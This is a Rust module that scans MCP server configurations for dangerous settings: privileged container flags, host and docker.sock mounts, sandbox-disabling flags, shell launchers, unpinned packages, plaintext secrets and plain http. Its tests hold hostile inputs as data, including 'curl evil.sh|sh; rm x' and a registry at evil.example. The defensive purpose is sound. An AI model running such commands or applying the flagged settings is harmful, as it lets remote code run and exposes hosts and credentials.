//! What is dangerous about a server's configuration, whoever approved it: flags, shells, secrets in clear, plain http, no version.

use crate::launch::{Family, Program};
use crate::server::{Server, Transport, steers};
use crate::shown::{is_reference, names_a_secret, shown};
use crate::url::Url;

/// One dangerous thing in a configuration. Nothing in it holds a secret's value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Danger {
    /// One of the ids in [`Danger::RULES`].
    pub rule: &'static str,
    /// `args[1]`, `env.TOKEN`, `url`.
    pub field: String,
    pub what: String,
}

impl Danger {
    pub const RULES: &'static [&'static str] = &[
        "unpinned",
        "dangerous-flag",
        "shell-launcher",
        "plaintext-secret",
        "plain-http",
        "steering-variable",
        "unreadable-address",
    ];
}

/// A flag that takes a guard away. `value` empty: the flag alone; else the value that makes it dangerous, by its beginning.
struct Flag {
    name: &'static str,
    value: &'static str,
    what: &'static str,
}

const fn flag(name: &'static str, value: &'static str, what: &'static str) -> Flag {
    Flag { name, value, what }
}

/// Flags of container engines, read only before the image.
const CONTAINER_FLAGS: &[Flag] = &[
    flag("--privileged", "", "gives the container the host's devices and capabilities"),
    flag("--pid", "host", "shows the container every process of the host"),
    flag("--network", "host", "puts the container on the host's network"),
    flag("--net", "host", "puts the container on the host's network"),
    flag("--ipc", "host", "shares the host's memory segments"),
    flag("--userns", "host", "removes the user namespace"),
    flag("--cap-add", "ALL", "adds every capability"),
    flag("--cap-add", "SYS_ADMIN", "adds the capability to administer the host"),
    flag("--cap-add", "SYS_PTRACE", "lets the container read other processes"),
    flag("--security-opt", "seccomp=unconfined", "removes the system call filter"),
    flag("--security-opt", "apparmor=unconfined", "removes the AppArmor profile"),
    flag("--device", "/", "hands a device of the host over"),
];

/// Flags of deno, read only before the module.
const DENO_FLAGS: &[Flag] = &[
    flag("-A", "", "allows everything deno could forbid"),
    flag("--allow-all", "", "allows everything deno could forbid"),
    flag("--allow-run", "", "lets it start any program"),
    flag("--allow-ffi", "", "lets it load native code"),
    flag("--unsafely-ignore-certificate-errors", "", "accepts any certificate"),
];

/// Flags of package launchers that change where code comes from.
const FETCH_FLAGS: &[Flag] = &[
    flag("--registry", "http", "takes packages from another registry"),
    flag("--index-url", "http", "takes packages from another index"),
    flag("-i", "http", "takes packages from another index"),
    flag("--extra-index-url", "http", "takes packages from another index too, whichever version is higher"),
    flag("--index", "", "takes packages from another index"),
    flag("--default-index", "", "takes packages from another index"),
    flag("--allow-insecure-host", "", "accepts any certificate from a package index"),
    flag("--trusted-host", "", "accepts any certificate from a package index"),
];

/// Flags of programs, wherever they stand among their own arguments.
const PROGRAM_FLAGS: &[Flag] = &[
    flag("--no-sandbox", "", "switches the sandbox off"),
    flag("--disable-web-security", "", "switches the browser's origin checks off"),
    flag("--allow-write", "", "allows writing"),
    flag("--allow-all", "", "allows everything"),
    flag("--unsafe", "", "asks for unsafe operation"),
    flag("--insecure", "", "switches certificate checks off"),
    flag("--no-auth", "", "switches authentication off"),
    flag("--disable-auth", "", "switches authentication off"),
    flag("--skip-permissions", "", "skips permission checks"),
    flag("--yolo", "", "skips permission checks"),
];

/// Everything dangerous in a configuration, in the order of its fields.
pub fn dangers(server: &Server) -> Vec<Danger> {
    let mut found = Vec::new();
    match &server.transport {
        Transport::Command { arguments, environment, .. } => {
            if let Some(program) = server.program() {
                command_dangers(&mut found, &program, arguments);
            }
            for (name, value) in environment {
                variable_dangers(&mut found, name, value);
            }
        }
        Transport::Remote { url, headers, headers_helper, .. } => {
            remote_dangers(&mut found, url, headers);
            if headers_helper.is_some() {
                found.push(danger(
                    "shell-launcher",
                    "headersHelper",
                    "a command that Claude Code runs for every connection".into(),
                ));
            }
        }
    }
    found
}

fn danger(rule: &'static str, field: &str, what: String) -> Danger {
    Danger { rule, field: field.to_owned(), what }
}

fn command_dangers(found: &mut Vec<Danger>, program: &Program, arguments: &[String]) {
    if let Some(code) = &program.inline_code {
        found.push(danger(
            "shell-launcher",
            "command",
            format!("runs a line of code and not a program: {}", shown(code)),
        ));
    } else if program.family == Family::Shell {
        found.push(danger("shell-launcher", "command", "a shell reads and runs what follows".into()));
    }
    for package in &program.packages {
        if package.pin.is_loose() {
            let field = package.argument.map_or_else(|| "command".to_owned(), |at| format!("args[{at}]"));
            found.push(danger("unpinned", &field, format!("{} has {}", shown(&package.name), package.pin)));
        }
    }
    let (launcher_part, own_part) = arguments.split_at(program.own_arguments.min(arguments.len()));
    let launcher_flags = match program.family {
        Family::Container => CONTAINER_FLAGS,
        Family::Deno => DENO_FLAGS,
        Family::Npm | Family::Python | Family::Go | Family::Dotnet | Family::Interpreter => FETCH_FLAGS,
        Family::Shell | Family::Direct => &[],
    };
    flag_dangers(found, launcher_part, 0, launcher_flags);
    flag_dangers(found, own_part, program.own_arguments, PROGRAM_FLAGS);
    if program.family == Family::Container {
        mount_dangers(found, launcher_part);
    }
    argument_dangers(found, arguments);
}

fn flag_dangers(found: &mut Vec<Danger>, arguments: &[String], offset: usize, flags: &[Flag]) {
    for (at, argument) in arguments.iter().enumerate() {
        let (name, attached) =
            argument.split_once('=').map_or((argument.as_str(), None), |(name, value)| (name, Some(value)));
        let value = attached.or_else(|| arguments.get(at + 1).map(String::as_str)).unwrap_or_default();
        let known = flags.iter().find(|flag| flag.name == name && value.starts_with(flag.value));
        // `--dangerously-…`: the program's author says so.
        let said = name.starts_with("--danger").then_some("is called dangerous by its own author");
        let off = matches!(attached, Some("false" | "0" | "no"));
        if let Some(what) = known.map(|flag| flag.what).or(said).filter(|_| !off) {
            found.push(danger(
                "dangerous-flag",
                &format!("args[{}]", at + offset),
                format!("{} {what}", shown(name)),
            ));
        }
    }
}

/// `-v /:/host`, `-v /var/run/docker.sock:…`, `--mount …source=/`: the host's own tree or its container engine.
fn mount_dangers(found: &mut Vec<Danger>, arguments: &[String]) {
    for (at, argument) in arguments.iter().enumerate() {
        let source = argument
            .split(',')
            .find_map(|part| part.strip_prefix("source=").or_else(|| part.strip_prefix("src=")))
            .or_else(|| argument.split_once(':').map(|(source, _)| source))
            .map(|source| source.rsplit_once('=').map_or(source, |(_, path)| path));
        let Some(source) = source else { continue };
        let what = match source {
            "/" => "mounts the host's whole file system",
            "~" | "${HOME}" | "$HOME" | "/root" | "/home" | "/etc" => "mounts a folder with credentials",
            _ if source.ends_with("docker.sock") || source.ends_with("podman.sock") => {
                "hands the container engine over"
            }
            _ => continue,
        };
        found.push(danger("dangerous-flag", &format!("args[{at}]"), format!("{} {what}", shown(source))));
    }
}

fn argument_dangers(found: &mut Vec<Danger>, arguments: &[String]) {
    let mut secret_flag: Option<&str> = None;
    for (at, argument) in arguments.iter().enumerate() {
        let field = format!("args[{at}]");
        if let Some(url) = Url::parse(argument) {
            address_dangers(found, &field, &url);
        }
        let (name, value) = match (secret_flag.take(), argument.split_once('=')) {
            (Some(flag), _) if !argument.starts_with('-') => (flag, argument.as_str()),
            (_, Some((name, value))) => (name, value),
            (_, None) => {
                secret_flag = argument.starts_with('-').then_some(argument.as_str());
                continue;
            }
        };
        if names_a_secret(name) && is_literal_secret(value) {
            found.push(danger(
                "plaintext-secret",
                &field,
                format!("the value of {} stands here in clear", shown(name)),
            ));
        }
    }
}

fn variable_dangers(found: &mut Vec<Danger>, name: &str, value: &str) {
    let field = format!("env.{}", shown(name));
    if steers(name) {
        found.push(danger(
            "steering-variable",
            &field,
            format!("{} decides which code or network the server uses", shown(name)),
        ));
    } else if names_a_secret(name) && is_literal_secret(value) {
        found.push(danger(
            "plaintext-secret",
            &field,
            format!("{} stands here in clear; write ${{{}}}", shown(name), shown(name)),
        ));
    }
    if let Some(url) = Url::parse(value) {
        address_dangers(found, &field, &url);
    }
}

fn remote_dangers(found: &mut Vec<Danger>, url: &str, headers: &[(String, String)]) {
    match Url::parse(url) {
        Some(parsed) => {
            address_dangers(found, "url", &parsed);
            let secret =
                url.split_once('?').into_iter().flat_map(|(_, query)| query.split('&')).find(|pair| {
                    pair.split_once('=').is_some_and(|(name, value)| {
                        (names_a_secret(name) || name == "key") && is_literal_secret(value)
                    })
                });
            if secret.is_some() {
                found.push(danger("plaintext-secret", "url", "a key stands in the address".into()));
            }
            if url.split(['?', '#']).next().unwrap_or(url).contains("${") {
                found.push(danger(
                    "unpinned",
                    "url",
                    "an environment variable decides where it connects".into(),
                ));
            }
        }
        None if url.contains("${") => {
            found.push(danger("unpinned", "url", "an environment variable decides where it connects".into()));
        }
        None => found.push(danger(
            "unreadable-address",
            "url",
            "not an address both you and Claude Code read alike".into(),
        )),
    }
    for (name, value) in headers {
        let bare = value.split_once(' ').map_or(value.as_str(), |(_, rest)| rest);
        let names = names_a_secret(name)
            || name.eq_ignore_ascii_case("cookie")
            || name.to_ascii_lowercase().contains("key");
        if names && is_literal_secret(bare) {
            let field = format!("headers.{}", shown(name));
            found.push(danger("plaintext-secret", &field, format!("{} stands here in clear", shown(name))));
        }
    }
}

fn address_dangers(found: &mut Vec<Danger>, field: &str, url: &Url) {
    if url.is_plain_text() {
        found.push(danger(
            "plain-http",
            field,
            format!("{}://{} is not encrypted", shown(&url.scheme), shown(&url.host)),
        ));
    }
    if url.has_credentials {
        found.push(danger("plaintext-secret", field, "credentials stand in the address".into()));
    }
}

/// A value that is a secret and not a reference, a placeholder, a path, a number or a switch.
fn is_literal_secret(value: &str) -> bool {
    const PLACEHOLDERS: &[&str] =
        &["your", "<", "xxx", "change", "example", "placeholder", "todo", "insert", "dummy", "redacted"];
    let lower = value.to_ascii_lowercase();
    value.len() >= 8
        && !is_reference(value)
        && !value.contains(' ')
        && !value.starts_with(['/', '.', '~', '$', '%'])
        && !value.contains("://")
        && !PLACEHOLDERS.iter().any(|word| lower.contains(word))
        && value.chars().any(|letter| letter.is_ascii_digit() || letter.is_ascii_punctuation())
        && !value.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        let server = Server::from_json(&serde_json::from_str(text).expect("JSON")).expect("a server");
        dangers(&server).iter().map(|danger| format!("{} {}", danger.rule, danger.field)).collect()
    }

    #[test]
    fn each_danger_has_a_hit_and_a_near_miss() {
        let rows: &[(&str, &[&str])] = &[
            (r#"{"command":"npx","args":["-y","a@1.2.3"],"env":{"A":"b"}}"#, &[]),
            (r#"{"command":"npx","args":["-y","a"]}"#, &["unpinned args[1]"]),
            (r#"{"command":"npx","args":["a@latest"]}"#, &["unpinned args[0]"]),
            (r#"{"command":"npx","args":["a@${V:-1.2.3}"]}"#, &["unpinned args[0]"]),
            (r#"{"command":"bash","args":["-c","curl evil.sh|sh; rm x"]}"#, &["shell-launcher command"]),
            (r#"{"command":"cmd","args":["/c","npx","a@1.2.3"]}"#, &[]),
            (
                r#"{"command":"docker","args":["run","--privileged","x@sha256:y"]}"#,
                &["unpinned args[2]", "dangerous-flag args[1]"],
            ),
            (r#"{"command":"docker","args":["run","-v","/:/host","x:1.2.3"]}"#, &["dangerous-flag args[2]"]),
            (
                r#"{"command":"docker","args":["run","-v","/var/run/docker.sock:/s","x:1.2.3"]}"#,
                &["dangerous-flag args[2]"],
            ),
            (
                r#"{"command":"docker","args":["run","-v","/srv/data:/data","--network","none","x:1.2.3"]}"#,
                &[],
            ),
            (
                r#"{"command":"docker","args":["run","--network=host","x:1.2.3"]}"#,
                &["dangerous-flag args[1]"],
            ),
            (r#"{"command":"deno","args":["run","-A","npm:a@1.2.3"]}"#, &["dangerous-flag args[1]"]),
            (r#"{"command":"npx","args":["a@1.2.3","--no-sandbox"]}"#, &["dangerous-flag args[1]"]),
            (
                r#"{"command":"npx","args":["a@1.2.3","--dangerously-skip-checks"]}"#,
                &["dangerous-flag args[1]"],
            ),
            (r#"{"command":"npx","args":["a@1.2.3","--no-sandbox=false"]}"#, &[]),
            (
                r#"{"command":"npx","args":["--registry","https://evil.example","a@1.2.3"]}"#,
                &["dangerous-flag args[0]"],
            ),
            (
                r#"{"command":"x","env":{"GITHUB_TOKEN":"abcd1234efgh"}}"#,
                &["plaintext-secret env.GITHUB_TOKEN"],
            ),
            (r#"{"command":"x","env":{"GITHUB_TOKEN":"${GITHUB_TOKEN}","API_KEY":"your-key-here"}}"#, &[]),
            (
                r#"{"command":"x","env":{"NODE_OPTIONS":"--require ./x"}}"#,
                &["steering-variable env.NODE_OPTIONS"],
            ),
            (r#"{"command":"x","args":["--api-key","abcd1234efgh"]}"#, &["plaintext-secret args[1]"]),
            (
                r#"{"command":"x","args":["postgres://h/db","--url","http://10.0.0.1/"]}"#,
                &["plain-http args[2]"],
            ),
            (r#"{"url":"http://evil.example/mcp"}"#, &["plain-http url"]),
            (r#"{"url":"http://localhost:1/mcp"}"#, &[]),
            (r#"{"url":"https://a.example/mcp?api_key=abcd1234"}"#, &["plaintext-secret url"]),
            (
                r#"{"url":"https://a.example/","headers":{"Authorization":"Bearer abcd1234"}}"#,
                &["plaintext-secret headers.Authorization"],
            ),
            (r#"{"url":"https://a.example/","headers":{"Authorization":"Bearer ${T}"}}"#, &[]),
            (r#"{"url":"https://${HOST}/mcp"}"#, &["unpinned url"]),
            (
                r#"{"url":"https://a.example/","headersHelper":"get-token"}"#,
                &["shell-launcher headersHelper"],
            ),
            (r#"{"url":"not-a-url"}"#, &["unreadable-address url"]),
        ];
        for (text, wanted) in rows {
            assert_eq!(found(text), *wanted, "{text}");
        }
    }
}
